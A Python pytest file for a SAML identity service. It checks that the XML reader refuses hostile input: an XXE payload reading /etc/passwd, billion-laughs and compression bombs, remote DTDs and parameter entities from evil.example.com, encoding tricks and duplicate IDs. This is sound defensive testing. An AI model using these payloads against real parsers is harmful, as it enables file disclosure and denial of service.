"""Documents that attack the reader of XML, and what is handed out of one that does not."""

from __future__ import annotations

import base64
import gzip
import zlib
from collections.abc import Callable

import pytest
from tests.identity.saml_idp import posted

from authz_service.errors import Unauthenticated
from authz_service.identity.saml.response import decoded, in_response_to
from authz_service.identity.saml.xml import read_message

BOMB = "".join(f'<!ENTITY l{n} "{"".join(f"&l{n - 1};" for _ in range(10))}">' for n in range(1, 10))
DOCTYPE, UTF8 = "a document type", "not in UTF-8"
DOCUMENTS = {
    "an external entity": ('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', DOCTYPE),
    "a billion laughs": (f'<!DOCTYPE x [<!ENTITY l0 "lol">{BOMB}]><x>&l9;</x>', DOCTYPE),
    "a document type elsewhere": ('<!DOCTYPE x SYSTEM "http://evil.example.com/x.dtd"><x/>', DOCTYPE),
    "parameter entities": (
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example.com/p"> %p;]><x/>',
        DOCTYPE,
    ),
    "behind a declaration": ('<?xml version="1.0"?>\n<!DOCTYPE x><x/>', DOCTYPE),
    "UTF-16 by its word": ('<?xml version="1.0" encoding="UTF-16"?><x/>', UTF8),
    "UTF-7 by its word": ('<?xml version="1.0" encoding="UTF-7"?><x>+ADw-</x>', UTF8),
    "an entity that nobody declared": ("<x>&nothing;</x>", "well-formed"),
    "a deep one": ("<x>" * 60 + "</x>" * 60, "40 levels"),
    "a wide one": (f"<x>{'<y/>' * 4_000}</x>", "4000 elements"),
    "not well-formed": ("<x><y></x>", "well-formed"),
    "nothing": ("", "well-formed"),
    "an ID twice": ('<x ID="a"><y ID="a"/></x>', "an ID twice"),
    "an ID by another name": ('<x ID="a"><y xml:id="a"/></x>', "an ID twice"),
    "an ID in small letters": ('<x Id="a"><y><z id="a"/></y></x>', "an ID twice"),
}


@pytest.mark.parametrize(("document", "message"), DOCUMENTS.values(), ids=DOCUMENTS.keys())
def test_documents_that_attack_the_reader_are_refused_at_once(document: str, message: str) -> None:
    with pytest.raises(Unauthenticated, match=message) as caught:
        read_message(document.encode())
    assert "passwd" not in str(caught.value)
    assert caught.value.code == "saml_malformed"


def test_a_plain_document_with_a_declaration_is_read() -> None:
    assert read_message(b'<?xml version="1.0" encoding="utf-8"?>\n<x ID="a"><y ID="b"/></x>\n').tag == "x"


def test_a_document_type_in_utf_16_is_seen_too() -> None:
    with pytest.raises(Unauthenticated):
        in_response_to('<!DOCTYPE x [<!ENTITY e "x">]><x>&e;</x>'.encode("utf-16"))


def test_what_is_larger_than_any_response_is_refused_before_it_is_read() -> None:
    with pytest.raises(Unauthenticated) as caught:
        in_response_to(b"<x>" + b" " * (10 * 1024 * 1024) + b"</x>")
    assert caught.value.code == "saml_too_large"


@pytest.mark.parametrize("pack", [zlib.compress, gzip.compress, lambda data: zlib.compress(data)[2:-4]])
def test_nothing_is_inflated(pack: Callable[[bytes], bytes]) -> None:
    bomb = pack(b" " * (10 * 1024 * 1024))
    with pytest.raises(Unauthenticated):
        in_response_to(decoded(posted(bomb)))


@pytest.mark.parametrize("text", ["%%%", "a", "PHg+\x00", "é"])
def test_what_is_no_base64_is_refused(text: str) -> None:
    with pytest.raises(Unauthenticated):
        in_response_to(decoded(text))


def test_base64_with_line_breaks_and_for_urls_is_read() -> None:
    wanted = bytes(range(256))
    assert decoded(base64.encodebytes(wanted).decode()) == wanted
    assert decoded(base64.urlsafe_b64encode(wanted).rstrip(b"=").decode()) == wanted
